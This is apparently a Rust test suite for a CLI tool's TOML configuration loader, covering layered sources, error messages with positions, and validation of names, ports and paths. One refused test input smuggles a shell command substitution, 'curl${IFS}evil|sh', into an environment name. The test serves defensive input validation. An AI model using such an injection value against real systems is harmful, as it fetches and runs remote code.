use std::{fs, path::Path};

use tempfile::TempDir;

use super::*;

/// A home and a project to load from; `$` in messages stands for their directory.
struct Desk {
    directory: TempDir,
    sources: Sources,
}

impl Desk {
    fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let inner = directory.path().join("project/app/deep");
        fs::create_dir_all(&inner).unwrap();
        fs::create_dir(directory.path().join("home")).unwrap();
        let sources = Sources {
            user_directory: Some(directory.path().join("home")),
            working_directory: Some(inner),
            ..Sources::default()
        };
        Self { directory, sources }
    }

    fn path(&self) -> &Path {
        self.directory.path()
    }

    fn user(self, text: &str) -> Self {
        fs::write(self.path().join("home/config.toml"), text).unwrap();
        self
    }

    fn project(self, text: impl AsRef<[u8]>) -> Self {
        fs::write(self.path().join("project/kdj.toml"), text).unwrap();
        self
    }

    fn variable(mut self, name: &str, value: &str) -> Self {
        self.sources.variables.insert(name.to_owned(), value.into());
        self
    }

    fn load(&self) -> Config {
        Config::load(&self.sources).unwrap()
    }

    /// The message and the hints of the error.
    fn error(&self) -> String {
        let error = Config::load(&self.sources).unwrap_err();
        assert_eq!(error.failure(), crate::exit::Failure::Usage);
        let lines: Vec<&str> =
            std::iter::once(error.message()).chain(error.hints().iter().map(String::as_str)).collect();
        lines.join("\n").replace(&*self.path().to_string_lossy(), "$")
    }

    fn shown(&self, origin: &Origin) -> String {
        origin.to_string().replace(&*self.path().to_string_lossy(), "$")
    }
}

/// The error of a project file.
fn mistake(text: &str) -> String {
    Desk::new().project(text).error()
}

#[test]
fn nothing_configured_is_the_defaults() {
    let config = Desk::new().load();
    assert_eq!(config.color, Sourced::new(ColorChoice::Auto, Origin::Default));
    assert!(config.environments.is_empty() && config.files.is_empty());
}

#[test]
fn later_layers_win_key_by_key_and_remember_where_from() {
    let desk = Desk::new()
        .user("color = \"never\"\n[environments.qa]\ncontext = \"mine\"\nnamespace = \"mine\"\n[environments.own]\n")
        .project("[django]\nworkdir = \"/app\"\n\n[environments.qa]\nnamespace = \"shop-qa\"\nprotected = true\n");
    let config = desk.load();
    let qa = &config.environments["qa"];
    let context = qa.context.as_ref().unwrap();
    assert_eq!((context.value.as_str(), desk.shown(&context.origin).as_str()), ("mine", "$/home/config.toml:3"));
    let namespace = qa.namespace.as_ref().unwrap();
    assert_eq!((namespace.value.as_str(), desk.shown(&namespace.origin).as_str()), ("shop-qa", "$/project/kdj.toml:5"));
    assert_eq!(desk.shown(&qa.origin), "$/project/kdj.toml:4");
    assert!(config.environments.contains_key("own"));
    assert_eq!(config.color.value, ColorChoice::Never);
    assert_eq!(config.files.len(), 2);

    let config = desk.variable("KDJ_COLOR", "always").variable("KDJ_CONTEXT", "c").variable("KDJ_NAMESPACE", "").load();
    assert_eq!(config.color, Sourced::new(ColorChoice::Always, Origin::Variable("KDJ_COLOR")));
    assert_eq!(config.context.unwrap().origin, Origin::Variable("KDJ_CONTEXT"));
    assert_eq!(config.namespace, None, "an empty variable counts as absent");
}

#[test]
fn the_nearest_project_file_is_the_one() {
    let desk = Desk::new().project("[environments.far]\n");
    fs::write(desk.path().join("project/app/kdj.toml"), "[environments.near]\n").unwrap();
    assert_eq!(desk.load().environments.keys().collect::<Vec<_>>(), ["near"]);
}

#[test]
fn kdj_config_names_the_file_or_none() {
    let desk = Desk::new().user("[environments.own]\n").project("[environments.qa]\n").variable("KDJ_CONFIG", "none");
    assert!(desk.load().environments.is_empty());

    fs::write(desk.path().join("project/app/deep/other.toml"), "[environments.other]\n").unwrap();
    let desk = desk.variable("KDJ_CONFIG", "other.toml");
    assert_eq!(desk.load().environments.keys().collect::<Vec<_>>(), ["other", "own"]);

    let desk = desk.variable("KDJ_CONFIG", "/nowhere/kdj.toml");
    insta::assert_snapshot!(desk.error(), @r"
    `KDJ_CONFIG` names `/nowhere/kdj.toml`, which does not exist
    `KDJ_CONFIG=none` reads no file
    ");
    let desk = Desk::new().variable("KDJ_COLOR", "sometimes");
    insta::assert_snapshot!(desk.error(), @r#"the variable `KDJ_COLOR`: expected auto, always, never, and not "sometimes""#);
}

#[test]
fn unknown_keys_get_the_nearest_or_all() {
    insta::assert_snapshot!(mistake("[environments.qa]\ncontext = \"a\"\n  namepsace = \"b\"\n"), @r"
    $/project/kdj.toml:3:3: unknown key `namepsace`
    did you mean `namespace`?
    ");
    insta::assert_snapshot!(mistake("[environments.qa]\nreplicas = 3\n"), @r"
    $/project/kdj.toml:2:1: unknown key `replicas`
    known here: `context`, `namespace`, `instance`, `protected`, `session`, `django`, `database`, `roles`
    ");
    insta::assert_snapshot!(mistake("[enviroments.qa]\n"), @r"
    $/project/kdj.toml:1:2: unknown key `enviroments`
    did you mean `environments`?
    ");
    insta::assert_snapshot!(mistake("environments.qa.session = 'frehs'\n"), @r"
    $/project/kdj.toml:1:27: unknown value `frehs`
    did you mean `fresh`?
    ");
    insta::assert_snapshot!(mistake("[roles.web]\n\"sel\\u001b`x\" = 1\n"), @r"
    $/project/kdj.toml:2:1: unknown key `sel\u{1b}`x`
    known here: `selector`, `container`
    ");
}

#[test]
fn fields_of_log_lines_are_names() {
    let config = Desk::new().project("[logs]\nrequest_fields = ['rid', 'http.id']\n").load();
    assert_eq!(config.logs.request_fields.unwrap().value, ["rid", "http.id"]);
    assert!(config.logs.task_fields.is_none());
    for fields in ["[]", "['']"] {
        assert!(mistake(&format!("[logs]\ntask_fields = {fields}\n")).starts_with("$/project/kdj.toml:2:15:"));
    }
}

#[test]
fn wrong_types_and_broken_files_say_where() {
    insta::assert_snapshot!(mistake("[environments.qa]\nprotected = \"yes\"\n"), @r#"$/project/kdj.toml:2:13: invalid type: string "yes", expected a boolean"#);
    insta::assert_snapshot!(mistake("[environments]\nqa = \"acme\"\n"), @r#"$/project/kdj.toml:2:6: invalid type: string "acme", expected a table"#);
    insta::assert_snapshot!(mistake("[environments.qa]\ncontext = \n"), @r"$/project/kdj.toml:2:11: string values must be quoted, expected literal string");
    insta::assert_snapshot!(mistake("a = 1\na = 2\n"), @"$/project/kdj.toml:2:1: duplicate key");
    insta::assert_snapshot!(mistake("[environments.qa]\n[environments.qa]\n"), @"$/project/kdj.toml:2:15: duplicate key");
    insta::assert_snapshot!(Desk::new().project(b"# ok\n# caf\xe9\n").error(), @"$/project/kdj.toml:2:6: the file is not valid UTF-8");
}

#[test]
fn values_that_mean_nothing_are_refused() {
    let cases = [
        ("[environments.'a b']", "1:15: a name cannot contain white space, control characters or `/`"),
        ("[environments.'a/b']", "1:15: a name cannot contain white space, control characters or `/`"),
        ("[environments.\"a\\u001b\"]", "1:15: a name cannot contain white space, control characters or `/`"),
        ("[environments.'']", "1:15: the name is empty"),
        (
            "[environments.'qa$(curl${IFS}evil|sh)']",
            "1:15: a name cannot contain what means something to a shell: $`\\\"'!#&;|<>()[]{}?~^",
        ),
        ("[roles.'a;b']", "1:8: a name cannot contain what means something to a shell: $`\\\"'!#&;|<>()[]{}?~^"),
        ("[environments.-a]", "1:15: a name cannot begin with `-`"),
        ("[environments.qa]\ncontext = ' '", "2:11: the value is empty"),
        ("[environments.qa]\nnamespace = 'Shop'", "2:13: a namespace is up to 63 lower-case letters, digits and `-`"),
        (
            "[environments.qa]\ninstance = '{name}'",
            "2:12: `{name}` has a meaning only where the environment's name contains `*`",
        ),
        (
            "[environments.'*-qa']\nnamespace = '{nam}'",
            "2:13: a namespace is up to 63 lower-case letters, digits and `-`",
        ),
        ("[roles.'*']\nselector = 'a=b'", "1:8: only names of environments may contain `*`"),
        ("[roles.web]\nselector = ''", "2:12: the value is empty"),
        ("[django]\nmanage = []", "2:10: expected the words of a command, as in `[\"python\", \"manage.py\"]`"),
        ("[django]\nworkdir = 'app'", "2:11: expected an absolute path, as in `/app`"),
        ("[forwards.flower]\nport = 5555", "1: the forward `flower` has no `role`"),
        ("[forwards.flower]\nrole = 'celeryd'", "1: the forward `flower` has no `port`"),
        ("[forwards.db]\nhost = 'a'\nport = 1", "1:11: `db` is what the app's settings say; choose another name"),
        (
            "[forwards.8080]\nhost = 'a'\nport = 1",
            "1:11: a forward's name cannot begin with a digit or `:`: that says ports",
        ),
        ("[forwards.search]\nhost = 'a'", "1: the forward `search` has no `port`"),
        (
            "[forwards.search]\nhost = 'a:9200'\nport = 1",
            "2:8: expected a host's name or address alone, as in `db.internal`; the port is a key of its own",
        ),
        ("[aliases]\na = 'shell \"x'", "2:5: a quote in the alias is not closed"),
        ("[database]\nread_only_alias = ''", "2:19: the value is empty"),
        ("[database]\ntoolbox_image = 'a b'", "2:17: an image's name has no white space"),
        ("[database]\nstatement_timeout = 'soon'", "2:21: this is no time; a time is typed like 90s, 15m, 12h, 7d"),
        ("[database]\nstatement_timeout = '0'", "2:21: it must be longer than that"),
        ("[database]\nstatement_timeout = '30d'", "2:21: a statement's limit is between 1 ms and 24 days"),
        ("[environments.qa.database]\nclient = 'here'", "2:10: unknown value `here`"),
        ("color = 'never'", "1:9: `color` is each user's own taste, and not the project's"),
    ];
    for (text, expected) in cases {
        let error = mistake(text);
        assert_eq!(error.lines().next().unwrap(), format!("$/project/kdj.toml:{expected}"), "{text}");
    }
    for port in ["0", "70000", "-1"] {
        assert!(
            mistake(&format!("[forwards.flower]\nrole = 'a'\nport = {port}")).starts_with("$/project/kdj.toml:3:8:")
        );
    }
}

#[test]
fn what_is_no_file_of_reasonable_size_is_refused() {
    let desk = Desk::new();
    fs::create_dir(desk.path().join("project/kdj.toml")).unwrap();
    insta::assert_snapshot!(desk.error(), @"`$/project/kdj.toml` is a directory, and should be a file");
    let desk = Desk::new().project("#".repeat(10 << 20));
    insta::assert_snapshot!(desk.error(), @"`$/project/kdj.toml` is larger than 1 MiB, and so not a configuration of kdj");
}

#[test]
fn windows_line_ends_and_a_byte_order_mark_are_fine() {
    let desk = Desk::new().project("\u{feff}[environments.qa]\r\ncontext = 'a'\r\n");
    assert_eq!(desk.shown(&desk.load().environments["qa"].context.clone().unwrap().origin), "$/project/kdj.toml:2");
}

#[test]
fn the_example_of_the_documentation_is_a_configuration() {
    let page = include_str!("../../docs/configuration.md");
    let examples: Vec<&str> = page.split("```toml\n").skip(1).filter_map(|rest| rest.split("```").next()).collect();
    assert!(!examples.is_empty());
    for example in examples {
        let desk =
            if example.starts_with("# config.toml") { Desk::new().user(example) } else { Desk::new().project(example) };
        let config = desk.load();
        alias::check(&config.aliases, &["manage", "shell", "pyshell", "envs"]).unwrap();
    }
}
